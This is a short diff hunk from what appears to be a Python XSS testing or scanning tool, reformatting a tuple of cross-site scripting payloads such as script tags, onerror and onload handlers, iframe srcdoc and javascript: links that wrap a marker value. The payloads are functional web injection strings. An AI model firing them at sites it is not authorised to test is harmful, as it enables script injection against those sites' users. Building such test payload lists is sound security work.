@@ -20,8 +20,10 @@ PAYLOADS = (
     f"<script>{RAN}</script>", f"<img src=x onerror={RAN}>", f"<svg onload={RAN}>", f"\"><script>{RAN}</script>",
     f"'><img src=x onerror={RAN}>", f"</script><script>{RAN}</script>", f"</title><script>{RAN}</script>",
     f"</style><script>{RAN}</script>", f"--><script>{RAN}</script>", f"]]><script>{RAN}</script>",
-    f"<iframe srcdoc='<script>parent.{RAN}</script>'>", f"<a href=javascript:{RAN}>x</a>", f"<details open ontoggle={RAN}>",
-    f"\" onmouseover={RAN} x=\"", f"<body onload={RAN}>", f"<input autofocus onfocus={RAN}>", f"&lt;script&gt;{RAN}&lt;/script&gt;",
+    f"<iframe srcdoc='<script>parent.{RAN}</script>'>", f"<a href=javascript:{RAN}>x</a>",
+    f"<details open ontoggle={RAN}>",
+    f"\" onmouseover={RAN} x=\"", f"<body onload={RAN}>", f"<input autofocus onfocus={RAN}>",
+    f"&lt;script&gt;{RAN}&lt;/script&gt;",
     f"\\u003cscript>{RAN}\\u003c/script>", f"`${{{RAN}}}`",
 )  # fmt: skip
 CONFIG = """
